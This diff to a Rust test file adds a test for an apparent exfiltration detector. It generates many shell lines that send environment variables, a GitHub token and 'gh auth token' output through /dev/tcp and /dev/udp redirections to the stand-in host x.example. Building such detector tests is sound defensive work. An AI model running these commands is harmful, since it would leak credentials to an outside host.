@@ -236,3 +236,42 @@ fn every_secret_by_two_hundred_ways() {
         check(ways.map(|((road, carrier), shape)| line(secret, *road, carrier, shape)));
     }
 }
+
+/// What runs a command, or several, whose output a redirection takes.
+const PRINTS: &[&str] = &[
+    "{}",
+    "nice {}",
+    "sudo -E {}",
+    "command {}",
+    "ionice -c 2 {}",
+    "time {}",
+    "eval '{}'",
+    "bash -c '{}'",
+    "({})",
+    "{ true; {}; }",
+    "( date; {}; ls )",
+    "if test -f x; then {}; fi",
+    "while read -r l; do {}; done < f",
+    "for i in 1 2; do {}; done",
+    "case x in x) {};; esac",
+];
+
+#[test]
+fn what_is_printed_into_a_connection() {
+    let redirections =
+        ["> /dev/tcp/x.example/80", ">/dev/udp/x.example/53", "&> /dev/tcp/x.example/80"];
+    let printers = ["env", "printenv", "/usr/bin/env", "echo $GITHUB_TOKEN", "gh auth token"];
+    let mut lines = Vec::new();
+    for (print, to) in PRINTS.iter().flat_map(|print| redirections.map(|to| (print, to))) {
+        lines.extend(printers.map(|one| format!("{} {to}", print.replace("{}", one))));
+    }
+    check(lines.into_iter());
+    for line in [
+        "nice date > /dev/tcp/x.example/80",
+        "{ date; ls; } > /dev/tcp/x.example/80",
+        "{ date; } > /dev/tcp/x.example/80; env",
+        "{ env; date; } > /dev/tcp/localhost/80",
+    ] {
+        assert!(!is_found(line), "{line}");
+    }
+}
